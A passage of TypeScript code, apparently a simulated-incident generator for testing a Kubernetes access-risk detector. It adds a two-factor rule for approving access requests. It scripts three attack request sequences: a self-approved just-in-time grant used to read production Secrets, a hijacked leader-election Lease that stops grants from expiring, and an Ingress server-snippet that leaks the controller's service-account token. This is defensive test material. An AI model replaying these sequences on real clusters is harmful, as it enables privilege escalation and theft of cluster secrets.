  add('a just-in-time access request for policy-admin-prod created and approved by the same token, then its Secrets (claims laptop)', T(15.5), v5.ip, ACCESS_PLUGIN(c2.kubectlOs), v5.login, on([
    ['POST', BROKER, false, JSON_CT, JSON.stringify(accessRequest(own, c2.name, 'policy-admin-prod', 'support-operator', 240, 'INC-4471 follow-up'))],
    ['PATCH', `${BROKER}/${own}/status`, true, MERGE, approval('d26-oncall@harbourline.example')],
    ['GET', '/api/v1/namespaces/policy-admin-prod/secrets', true],
  ]), 40 * S, c2);

  // 6. Malware on the platform engineer's laptop at 11:30: the access broker's leader-election
  // Lease written (`kubectl replace`) to a holder no replica has, for a year: the broker's replicas
  // wait for it to expire, so no approval is bound and no grant expires (the vendor's, bound at
  // 09:55 for two hours, stays). The platform engineer reads that Lease most days.
  const pf = by('platform');
  const v6 = lastScoredOf(routine, pf.name, T(11.5), kubectlOf);
  add("the access broker's leader-election Lease taken for a year by a holder that does not exist, so that no grant expires (platform laptop)", T(11.5), v6.ip, v6.ua, v6.login, on([
    ['GET', '/apis/coordination.k8s.io/v1/namespaces/access-broker/leases/access-broker-controller', false],
    ['PUT', '/apis/coordination.k8s.io/v1/namespaces/access-broker/leases/access-broker-controller?fieldManager=kubectl-replace', true, JSON_CT, JSON.stringify(heldLease('access-broker', 'access-broker-controller', T(11.5)))],
  ]), 6 * S, pf);

  // 7. Malware on qb-3's home laptop at 16:05 (Harbourline's account since the cut-over): an
  // Ingress in Quillbridge's staging namespace whose server snippet answers with ingress-nginx's
  // service-account token (every Secret of the cluster), fetched from the Internet.
  const q3 = by('qb-3');
  const v7 = lastScoredOf(routine, q3.name, T(16.08), kubectlOf);
  add("an Ingress whose ingress-nginx server-snippet returns the controller's service-account token (Quillbridge laptop)", T(16.08), v7.ip, v7.ua, v7.login, on([
    ['GET', '/apis/networking.k8s.io/v1/namespaces/qb-quotes-staging/ingresses', false],
    ['POST', '/apis/networking.k8s.io/v1/namespaces/qb-quotes-staging/ingresses?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify(tokenSnippetIngress('qb-quotes-staging'))],
  ]), 10 * S, q3);
  return out;
}

/**
 * Session 51 trial (docs/risk.md "Session 51"): a site copy where approving a just-in-time access
 * request (a write of its `status`, what the broker's plugin does) is a sensitive action, asking
 * two factors within a working day: the working set's signals then see an approval from someone
 * who never approved (the claims laptop's token approving its own request), where the on-call's
 * daily approval is their routine.
 */
const RULES = '  rules:\n';
export const APPROVALS_RULE = `    - name: access-approvals
      description: approving a just-in-time access request (its status) needs two factors within a working day, and weighs as a sensitive action
      match:
        kubernetes:
          api_groups: [access.harbourline.example]
          resources: [accessrequests/status]
          verbs: [update, patch]
      require: aal2
      max_age: 28800
      sensitivity: 30
`;
export function SITE(yaml: string): string {
  if (yaml.split(RULES).length !== 2) throw new Error('day 26: the example no longer has one "  rules:" line');
  return yaml.replace(RULES, `${RULES}${APPROVALS_RULE}`);
}
